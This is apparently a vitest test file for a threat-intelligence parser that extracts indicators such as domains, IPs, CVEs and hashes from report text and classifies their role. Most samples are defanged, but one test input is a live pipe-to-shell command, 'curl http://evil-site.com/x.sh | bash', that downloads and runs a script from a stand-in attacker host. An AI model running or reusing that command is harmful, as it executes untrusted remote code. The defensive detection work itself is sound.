import { expect, test } from "vitest";

import type { Mention } from "../entities/mention.ts";
import { blocksOfText } from "../html/blocks.ts";
import { findIndicators } from "./find-indicators.ts";

function find(text: string): Mention[] {
  return findIndicators(text, blocksOfText(text), { ownHosts: new Set(), benign: null });
}

/** Each value with its role. */
function rolesIn(text: string): Record<string, string | null> {
  return Object.fromEntries(find(text).map(({ value, role }) => [value, role]));
}

test.each([
  ["The implant asks evil-site[.]com for commands every minute.", "c2"],
  ["The malware reached out to evil-site[.]com on port 443.", "c2"],
  ["Traffic to evil-site[.]com was seen every 60 seconds.", "c2"],
  ["The backdoor's hard-coded server is evil-site[.]com.", "c2"],
  ["It reports its build number to evil-site[.]com.", "c2"],
  ["The bot sends host details to evil-site[.]com.", "c2"],
  ["Il malware contatta evil-site[.]com.", "c2"],
  ["Le serveur de commande evil-site[.]com répond.", "c2"],
  ["The browser landed on hxxps://evil-site[.]com/setup.", "delivery"],
  ["It contains a link to hxxps://evil-site[.]com/invoice.", "delivery"],
  ["The page loads hxxps://evil-site[.]com/j.js.", "delivery"],
  ["The shortened URL points to hxxp://evil-site[.]com/u.msi.", "delivery"],
  ["The ZIP is served from evil-site[.]com.", "delivery"],
  ["The loader was spread through cracked software on evil-site[.]com.", "delivery"],
  ["curl http://evil-site.com/x.sh | bash", "delivery"],
  ["The texts lead users to hxxps://evil-site[.]com.", "phishing"],
  ["It leaked the archive; 18 GB leave the network towards evil-site[.]com.", "exfiltration"],
  ["The skimmer posts card numbers to hxxps://evil-site[.]com/c.", "exfiltration"],
  ["Stolen credentials are posted to hxxps://evil-site[.]com/s.", "exfiltration"],
  ["Screenshots are sent to evil-site[.]com.", "exfiltration"],
  ["The domain evil-site[.]com was registered in May.", "infrastructure"],
  ["Operators logged in over VPN from 91[.]219[.]84[.]17.", "infrastructure"],
  ["The website of the council, stadt-musterau.de, was compromised.", "victim"],
])("what %j says is %s", (text, role) => {
  expect(find(text)[0]?.role).toBe(role);
});

test.each([
  ["CVE-2025-20333 was used against telecoms.", "exploited"],
  ["The group gained access through CVE-2023-46805.", "exploited"],
  ["The old CVE-2020-1472 still works in many networks.", "exploited"],
  ["CISA added CVE-2025-1111 to its KEV catalog.", "exploited"],
  ["The zero-day CVE-2025-30406 affects the gateway.", "exploited"],
  ["CVE-2024-3400 was weaponized within a day.", "exploited"],
  ["CVE-2026-8899 is under active attack.", "exploited"],
  ["Attackers chained CVE-2026-4001 with others.", "exploited"],
  ["Das Botnetz nutzt die Lücke CVE-2023-1389 aus.", "exploited"],
  ["This update fixes CVE-2026-1001.", null],
  ["The vendor patched CVE-2026-2233, a vulnerability in the parser.", null],
  ["There is no evidence that CVE-2026-3344 has been exploited in the wild.", null],
  ["Successful exploitation of CVE-2026-7788 could allow code execution.", null],
  ["A public exploit for CVE-2026-19999 appeared on Friday.", null],
  ["Das Update schließt die Schwachstelle CVE-2025-9911.", null],
])("the flaw in %j is %s", (text, role) => {
  expect(find(text)[0]?.role).toBe(role);
});

test("a relative clause speaks of its own flaw only", () => {
  const text = "Fixed are CVE-2026-21001, which was already being exploited, and CVE-2026-21002, a bug.";
  expect(rolesIn(text)).toEqual({ "CVE-2026-21001": "exploited", "CVE-2026-21002": null });
});

test.each([
  "Retrieved from https://northlight-labs.com/blog/a-new-loader on 3 May 2026.",
  "[1] https://acme-sec.io/2026/02/loader-analysis",
  "See also: https://acme-sec.io/download/whitepaper.pdf",
  "Download the free report at https://acme-sec.io/reports/2026.",
  "It hides its C2 address in profiles (https://acme-sec.io/deaddrop).",
  "Source: https://acme-sec.io/story",
  "References\n\n- https://acme-sec.io/blog/payload-delivery",
])("the link in %j is a reference", (text) => {
  expect(find(text)[0]).toMatchObject({ role: "reference", status: "mentioned" });
});

test("a plain link is a reference where the report defangs what is harmful", () => {
  const text = "a[.]evil-site[.]com, b.evil-site[.]com. The story is https://acme-sec.io/12 in full.";
  expect(find(text).at(-1)).toMatchObject({ role: "reference", status: "mentioned" });
});

test("what is defanged is no reference", () => {
  expect(find("According to the vendor, evil-site[.]com was used.")[0]?.role).toBeNull();
});

test("a remark behind a value is nearer than that of the value before", () => {
  expect(rolesIn("91[.]219[.]84[.]17 (C2), evil-site[.]com (exfiltration)")).toEqual({
    "91.219.84.17": "c2",
    "evil-site.com": "exfiltration",
  });
  const list = "IOCs:\n- 91.219.84.17 – C2 server\n- 91.219.84.18 // payload host\n- 91.219.84.19 (Havoc)";
  expect(Object.values(rolesIn(list))).toEqual(["c2", "delivery", "c2"]);
});

test("a neighbouring cell says what a value is", () => {
  const text =
    "Indicator | Description\n91.219.84.17 | Cobalt Strike C2\nevil-site.net | Credential harvesting\n91.219.84.18 | Payload host";
  expect(Object.values(rolesIn(text))).toEqual(["c2", "phishing", "delivery"]);
});

test.each([
  "C2\tPayload\tExfil\n91.219.84.17\thxxp://a-site[.]com/a.dll\tb-site[.]net",
  "C2            Payload                     Exfil\n91.219.84.17  hxxp://a-site[.]com/a.dll   b-site[.]net",
])("columns parted by tabs or blanks give roles: %j", (text) => {
  expect(Object.values(rolesIn(text))).toEqual(["c2", "delivery", "exfiltration"]);
});

test("lines that end with a colon head the values below them, also after one another", () => {
  const text =
    "IOC list\nDownload sites:\na-site[.]top\nb-site[.]top\nC&C:\n91.219.84.17:15647\n91.219.84.18:15647\nData exfiltration:\nc-site[.]su";
  expect(Object.values(rolesIn(text))).toEqual(["delivery", "delivery", "c2", "c2", "exfiltration"]);
});

test("a title right above its list gives the role", () => {
  const text =
    "Command and Control\n- 91.219.84.17\n\nPhishing Domains\n- evil-site[.]com\n\nExfil\n- 91.219.84.18\n\nStage 2 (C2)\n- 91.219.84.19";
  expect(Object.values(rolesIn(text))).toEqual(["c2", "phishing", "exfiltration", "c2"]);
});

test("the title of an article gives no role to what its sentences mention", () => {
  const text = "Botnet takedown\n\nThe police have written to evil-site[.]net about it at length last week.";
  expect(find(text)[0]?.role).toBeNull();
});

test("a value in the appendix has the role of the prose, a domain that of its URLs", () => {
  const text =
    "The stealer sends the archive to hxxps://x.evil-site[.]top/u over HTTPS.\n\nIndicators\n\nevil-site[.]top\nx.evil-site[.]top";
  expect(find(text).map(({ role }) => role)).toEqual(["exfiltration", "exfiltration", "exfiltration"]);
});

test("a file name beside a hash is the file's", () => {
  expect(find("47d0614c373ab6630bb0ef60739336ae  wine.zip").at(-1)).toMatchObject({
    value: "wine.zip",
    role: "payload",
    status: "indicator",
  });
});

test.each([
  ["Recipients opened the attachment invoice.com twice", "file_name invoice.com"],
  ["It drops a.exe, setup.run and notes.info", "file_name notes.info"],
  ["It leaves !__README__!.txt in each folder", "file_name !__README__!.txt"],
  ["We like the site notes.info", "domain notes.info"],
  ["We like invoice.com", "domain invoice.com"],
])("%j ends with %s", (text, wanted) => {
  const last = find(text).at(-1);
  expect(`${last?.type} ${last?.value}`).toBe(wanted);
});

const HALF = "9b74c9897bac770ffc029102a200c5de";

test("a hash is whole though a line break or an invisible character cuts it", () => {
  const cut = `${HALF.slice(0, 20)}\n${HALF.slice(20)}${HALF}`;
  expect(find(cut).map(({ type, value }) => [type, value])).toEqual([["sha256", HALF + HALF]]);
  expect(find(`SHA-256: ${HALF}\n${HALF}`).map(({ value }) => value)).toEqual([HALF + HALF]);
  expect(find(`${HALF}\u200b${HALF}`).map(({ value }) => value)).toEqual([HALF + HALF]);
});

test("two MD5 hashes in two lines stay two", () => {
  expect(find(`${HALF}\n${HALF}`).map(({ type }) => type)).toEqual(["md5", "md5"]);
});

test("an appendix of 5000 hashes is complete, each with role and status", () => {
  const lines = Array.from(
    { length: 5000 },
    (_, n) => `- ${HALF}${HALF.slice(0, 24)}${(n + 0x10000000).toString(16)}`,
  );
  const mentions = find(`Hashes\n\n${lines.join("\n")}`);
  expect(mentions).toHaveLength(5000);
  expect(mentions.every(({ role, status }) => role === "payload" && status === "indicator")).toBe(true);
});

test("beyond all density of reports values are found still, and judged by headers", () => {
  const mentions = find("::1 ".repeat(20_000));
  expect(mentions).toHaveLength(20_000);
  expect(mentions.at(-1)).toMatchObject({ value: "::1", status: "benign" });
});

test("of one value in a crowded text the first places are read in full, and a role of one is that of all", () => {
  const mentions = find(`The malware connects to evil[.]com. ${"evil[.]com ".repeat(5000)}`);
  expect(mentions).toHaveLength(5001);
  expect(mentions[0]).toMatchObject({ role: "c2", status: "indicator" });
  expect(mentions.at(-1)).toMatchObject({ matched: "evil[.]com", role: "c2", status: "indicator" });
  expect(mentions.at(-1)?.reasons).toEqual(["defanged", "role from another place in the text"]);
});

test("in a crowded text what stands around one value is read at its first 200 places", () => {
  const mentions = find("The malware connects to evil[.]com.\n\n".repeat(2500));
  const near = mentions.filter(({ reasons }) => reasons.some((reason) => reason.startsWith("near")));
  expect(mentions).toHaveLength(2500);
  expect(near).toHaveLength(200);
});
